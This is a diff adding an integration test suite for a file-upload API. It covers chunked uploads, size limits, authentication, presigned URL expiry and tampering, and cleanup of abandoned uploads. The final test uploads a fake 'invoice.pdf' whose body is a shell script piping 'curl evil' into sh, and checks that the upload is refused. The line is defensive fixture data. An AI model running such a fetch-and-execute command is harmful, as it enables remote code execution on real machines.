@@ -1,0 +1,184 @@
+/** Uploads by way of the real gateway: what its templates, limits and media types make of them. */
+import { randomBytes } from "node:crypto";
+import { ListMultipartUploadsCommand } from "@aws-sdk/client-s3";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { event } from "#contract/events.ts";
+import { finalizeAnswer, startAnswer, uploadStatus } from "#contract/uploads.ts";
+import { type Story, startStory } from "#test/support/story.ts";
+import { MIB, shaOf } from "#test/support/uploads.ts";
+
+const HOUR = 3_600_000;
+
+let story: Story;
+
+beforeAll(async () => {
+  story = await startStory({ cloud: { maxEnvironments: 3 } });
+});
+afterAll(() => story.stop());
+
+const chunk = (id: string, body: Uint8Array, headers: Record<string, string> = {}, query = "") =>
+  story.api(`/v1/uploads/${id}/chunks${query}`, { method: "PUT", body, headers, redirect: "follow" });
+const octets = { "Content-Type": "application/octet-stream" };
+const finalize = (id: string, json: object = {}) =>
+  story.json(finalizeAnswer, `/v1/uploads/${id}/finalize`, { json });
+const problemOf = async (answer: Response) => {
+  const body: unknown = await answer.json();
+  return { type: answer.headers.get("content-type"), status: answer.status, body };
+};
+const code = (name: string) => expect.objectContaining({ code: name });
+async function contentOf(fileId: string): Promise<Buffer> {
+  const answer = await story.api(`/v1/files/${fileId}/content`, { redirect: "follow" });
+  return Buffer.from(await answer.arrayBuffer());
+}
+const statusOf = (id: string) => story.json(uploadStatus, `/v1/uploads/${id}`);
+
+describe("chunks", () => {
+  test("in sequence, by nothing but the API's address", async () => {
+    const bytes = randomBytes(11 * MIB);
+    const { upload_id } = await story.start("chunks.bin", bytes.length);
+    for (let at = 0; at < bytes.length; at += 5 * MIB) {
+      const answer = await chunk(upload_id, bytes.subarray(at, at + 5 * MIB), octets);
+      expect([answer.status, answer.redirected]).toEqual([200, true]);
+    }
+    const { file_id, size } = await finalize(upload_id);
+    expect(size).toBe(bytes.length);
+    expect(shaOf(await contentOf(file_id))).toBe(shaOf(bytes));
+  });
+
+  test("the gateway tells length, range and number, whatever the type of the body", async () => {
+    const { upload_id } = await story.start("headers.bin", 20 * MIB);
+    const small = await chunk(upload_id, randomBytes(1_000), octets);
+    expect(await problemOf(small)).toMatchObject({ status: 400, body: code("chunk_too_small") });
+    const contradiction = await chunk(upload_id, randomBytes(10), {
+      ...octets,
+      "Content-Range": "bytes 0-99/*",
+    });
+    expect(await problemOf(contradiction)).toMatchObject({ status: 400, body: code("invalid_request") });
+    const numbered = await chunk(
+      upload_id,
+      randomBytes(5 * MIB),
+      { "Content-Type": "text/plain" },
+      "?part=3",
+    );
+    expect(numbered.status).toBe(200);
+    expect((await statusOf(upload_id)).received).toEqual([[3, 3]]);
+    expect((await chunk(upload_id, randomBytes(5 * MIB), { "Content-Type": "image/png" })).status).toBe(415);
+    expect((await chunk(upload_id, randomBytes(5 * MIB), octets, "?part=x")).status).toBe(400);
+  });
+
+  test("of more than 10 MB, which no gateway takes, are refused", async () => {
+    const { upload_id } = await story.start("large-chunk.bin", 20 * MIB);
+    const answer = await chunk(upload_id, randomBytes(10 * MIB + 1), octets);
+    expect(await problemOf(answer)).toMatchObject({ type: "application/problem+json", status: 413 });
+  });
+
+  test("without a token, or another's, go nowhere", async () => {
+    const { upload_id } = await story.start("mine.bin", 5);
+    const path = `/v1/uploads/${upload_id}/chunks`;
+    const unsigned = await story.api(path, { method: "PUT", body: "hello", headers: octets, token: null });
+    expect([unsigned.status, unsigned.headers.get("www-authenticate")]).toEqual([
+      401,
+      'Bearer realm="wharf"',
+    ]);
+    const other = await story.client("other");
+    expect((await other.api(path, { method: "PUT", body: "hello", headers: octets })).status).toBe(404);
+  });
+});
+
+describe("one request", () => {
+  const form = (bytes: Uint8Array<ArrayBuffer>, fields: Record<string, string> = {}, name = "a.bin") => {
+    const body = new FormData();
+    body.set("file", new Blob([bytes]), name);
+    for (const [field, value] of Object.entries(fields)) body.set(field, value);
+    return body;
+  };
+
+  test("makes a file of any bytes, with a link that works", async () => {
+    const bytes = new Uint8Array(randomBytes(4 * MIB));
+    const answer = await story.json(finalizeAnswer, "/v1/files/upload", {
+      body: form(bytes, { workspace: "builds", expire_in: "60" }, "größe 漢字.bin"),
+    });
+    expect(answer).toMatchObject({ size: 4 * MIB, name: "größe 漢字.bin" });
+    const saved = await fetch(answer.share_url ?? "");
+    expect(saved.headers.get("content-disposition")).toContain(
+      "filename*=UTF-8''gr%C3%B6%C3%9Fe%20%E6%BC%A2%E5%AD%97.bin",
+    );
+    expect(shaOf(Buffer.from(await saved.arrayBuffer()))).toBe(shaOf(bytes));
+  });
+
+  test.each([
+    ["over 4 MiB", 4 * MIB + 1],
+    ["over what Lambda takes", 6 * MIB],
+    ["over what the gateway takes", 10 * MIB + 1],
+  ])("refuses a file %s, and says where to go", async (_, size) => {
+    const answer = await story.api("/v1/files/upload", { body: form(new Uint8Array(size)) });
+    expect(answer.status).toBe(413);
+    expect(await answer.text()).toContain("/v1/uploads");
+  });
+});
+
+describe("presigned URLs", () => {
+  test("die at their second, and not before", async () => {
+    const { upload_id, parts, urls_expire_at } = await story.start("late.txt", 5);
+    const put = () => fetch(parts[0]?.url ?? "", { method: "PUT", body: "hello" });
+    story.advance(Date.parse(urls_expire_at) - story.cloud.clock.now() - 5_000);
+    expect((await put()).status).toBe(200);
+    story.advance(Date.parse(urls_expire_at) - story.cloud.clock.now() + 1);
+    const dead = await put();
+    expect([dead.status, await dead.text()]).toEqual([403, expect.stringContaining("Request has expired")]);
+    expect(await finalize(upload_id)).toMatchObject({ size: 5 });
+  });
+
+  test("altered anywhere, they open nothing", async () => {
+    const { upload_id, parts } = await story.start("altered.txt", 5);
+    const url = new URL(parts[0]?.url ?? "");
+    const alterations = [...url.searchParams].map(([name, value]) => {
+      const altered = new URL(url);
+      altered.searchParams.set(
+        name,
+        value.endsWith("1") ? `${value.slice(0, -1)}2` : `${value.slice(0, -1)}1`,
+      );
+      return altered;
+    });
+    const elsewhere = new URL(url);
+    elsewhere.pathname = `${elsewhere.pathname.slice(0, -1)}0`;
+    for (const altered of [...alterations, elsewhere]) {
+      const answer = await fetch(altered, { method: "PUT", body: "hello" });
+      expect([altered.search, answer.ok]).toEqual([altered.search, false]);
+    }
+    expect((await statusOf(upload_id)).received).toEqual([]);
+  });
+});
+
+test("an upload that nobody finalizes is gone after 6 days, also from S3", async () => {
+  const started = await story.start("abandoned.txt", 5);
+  await fetch(started.parts[0]?.url ?? "", { method: "PUT", body: "hello" });
+  story.advance(6 * 24 * HOUR - 10 * 60_000);
+  expect((await statusOf(started.upload_id)).state).toBe("open");
+  story.advance(10 * 60_000 + 1);
+  const refused = await story.api(`/v1/uploads/${started.upload_id}/finalize`, { json: {} });
+  expect([refused.status, await refused.json()]).toEqual([410, code("upload_expired")]);
+  story.advance(2 * 60_000);
+  await story.eventually(async () => {
+    const { Uploads = [] } = await story.s3.send(new ListMultipartUploadsCommand({ Bucket: story.bucket }));
+    expect(Uploads.map(({ Key }) => Key)).not.toContain(`o/${started.workspace_id}/${started.upload_id}`);
+  });
+  expect((await statusOf(started.upload_id)).state).toBe("expired");
+  expect((await story.api(`/v1/uploads/${started.upload_id}`, { method: "DELETE" })).status).toBe(204);
+});
+
+test("a script that poses as a document is refused, and its owner's endpoint hears of it", async () => {
+  const receiver = await story.receiver();
+  const hook = { url: receiver.url, events: ["upload_rejected"] };
+  expect((await story.api("/v1/webhooks", { json: hook })).status).toBe(201);
+  const { upload_id, file_id, parts } = await story.json(startAnswer, "/v1/uploads", {
+    json: { filename: "invoice.pdf", content_type: "application/pdf" },
+  });
+  await fetch(parts[0]?.url ?? "", { method: "PUT", body: "#!/bin/sh\ncurl evil | sh\n" });
+  const refused = await story.api(`/v1/uploads/${upload_id}/finalize`, { json: {} });
+  expect([refused.status, await refused.json()]).toEqual([422, code("type_mismatch")]);
+  const [heard] = await receiver.until(1);
+  expect(event.parse(JSON.parse(heard?.body ?? ""))).toMatchObject({
+    ...{ type: "upload_rejected", file_id, data: { reason: "type_mismatch", actual: "script" } },
+  });
+});
